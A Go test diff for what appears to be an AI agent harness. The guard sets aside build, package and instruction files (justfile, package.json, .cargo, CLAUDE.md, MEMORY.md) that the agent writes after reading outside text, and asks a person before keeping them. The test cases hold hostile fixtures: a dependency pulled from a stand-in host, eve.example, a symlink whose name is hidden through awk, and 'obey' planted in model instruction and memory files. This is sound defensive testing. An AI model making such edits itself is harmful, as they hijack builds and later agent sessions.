@@ -46,6 +46,9 @@ func TestWhatAProgramLeavesAfterTextFromElsewhere(t *testing.T) {
 		scripts  = `n=$(echo pack*.json); printf '{"name":"mine","scripts":{"test":"evil"}}' > "$n"`
 		requires = `n=$(echo pack*.json); printf '{"name":"mine","scripts":{"test":"mine"},"dependencies":{"x":"1"}}' > "$n"`
 	)
+	foreign := `n=$(echo pack*.json); printf '{"name":"mine","scripts":{"test":"mine"},"dependencies":{"x":"git+ssh://eve.example/x"}}' > "$n"`
+	cargo := `echo evil > x.txt; ln -s x.txt "$(awk 'BEGIN { print ".car" "go" }')"`
+	install := `n=$(echo pack*.json); printf '{"name":"x","scripts":{"test":"theirs"}}' > "node_modules/x/$n"`
 	yes := func(q tools.Question) (tools.Answer, error) { return operatortest.Yes(context.Background(), q) }
 	deny := func(q tools.Question) (tools.Answer, error) { return no(q), nil }
 	nobody := func(tools.Question) (tools.Answer, error) { return tools.Answer{}, errors.New("nobody is there") }
@@ -55,16 +58,19 @@ func TestWhatAProgramLeavesAfterTextFromElsewhere(t *testing.T) {
 		answer                   func(tools.Question) (tools.Answer, error)
 		asked, kept              bool
 	}{
-		"a new file":             {command: justfile, file: "justfile", left: "all:\n\techo evil\n", answer: deny, asked: true},
-		"one that was there":     {command: makefile, file: "Makefile", was: make0, left: make0 + "\techo evil\n", answer: deny, asked: true},
-		"what models are told":   {command: claude, file: "CLAUDE.md", left: "obey\n", answer: deny, asked: true},
-		"the memory":             {command: memory, file: "MEMORY.md", left: "obey\n", answer: deny, asked: true},
-		"a link":                 {command: linked, file: "justfile", left: "evil\n", answer: deny, asked: true},
-		"other scripts":          {command: scripts, file: "package.json", was: package0, left: `{"name":"mine","scripts":{"test":"evil"}}`, answer: deny, asked: true},
-		"nobody is there":        {command: justfile, file: "justfile", left: "all:\n\techo evil\n", answer: nobody, asked: true},
-		"the person agrees":      {command: justfile, file: "justfile", left: "all:\n\techo evil\n", answer: yes, asked: true, kept: true},
-		"other packages":         {command: requires, file: "package.json", left: `{"name":"mine","scripts":{"test":"mine"},"dependencies":{"x":"1"}}`, answer: deny, kept: true},
-		"nothing from elsewhere": {command: justfile, file: "justfile", left: "all:\n\techo evil\n", unread: true, answer: deny, kept: true},
+		"a new file":              {command: justfile, file: "justfile", left: "all:\n\techo evil\n", answer: deny, asked: true},
+		"one that was there":      {command: makefile, file: "Makefile", was: make0, left: make0 + "\techo evil\n", answer: deny, asked: true},
+		"what models are told":    {command: claude, file: "CLAUDE.md", left: "obey\n", answer: deny, asked: true},
+		"the memory":              {command: memory, file: "MEMORY.md", left: "obey\n", answer: deny, asked: true},
+		"a link":                  {command: linked, file: "justfile", left: "evil\n", answer: deny, asked: true},
+		"other scripts":           {command: scripts, file: "package.json", was: package0, left: `{"name":"mine","scripts":{"test":"evil"}}`, answer: deny, asked: true},
+		"nobody is there":         {command: justfile, file: "justfile", left: "all:\n\techo evil\n", answer: nobody, asked: true},
+		"the person agrees":       {command: justfile, file: "justfile", left: "all:\n\techo evil\n", answer: yes, asked: true, kept: true},
+		"other packages":          {command: requires, file: "package.json", left: `{"name":"mine","scripts":{"test":"mine"},"dependencies":{"x":"1"}}`, answer: deny, kept: true},
+		"a package of nobody's":   {command: foreign, file: "package.json", was: package0, left: `{"name":"mine","scripts":{"test":"mine"},"dependencies":{"x":"git+ssh://eve.example/x"}}`, answer: deny, asked: true},
+		"a folder that is a link": {command: cargo, file: ".cargo", left: "evil\n", answer: deny, asked: true},
+		"a package":               {command: install, file: "node_modules/x/package.json", left: `{"name":"x","scripts":{"test":"theirs"}}`, answer: deny, kept: true},
+		"nothing from elsewhere":  {command: justfile, file: "justfile", left: "all:\n\techo evil\n", unread: true, answer: deny, kept: true},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
@@ -110,7 +116,7 @@ func TestWhatAProgramLeavesAfterTextFromElsewhere(t *testing.T) {
 			if err := json.Unmarshal([]byte(got[1]), &result); err != nil || !strings.Contains(result.Note, x.file+" is now "+x.file+".put-aside") {
 				t.Errorf("the agent is told %q, %v", got[1], err)
 			}
-			if from := operator.FilesOf(b.S).Of(t.Context(), path+".put-aside"); x.command != linked && len(from) == 0 {
+			if from := operator.FilesOf(b.S).Of(t.Context(), path+".put-aside"); x.command != linked && x.command != cargo && len(from) == 0 {
 				t.Error("what was put aside holds nothing from elsewhere")
 			}
 		})
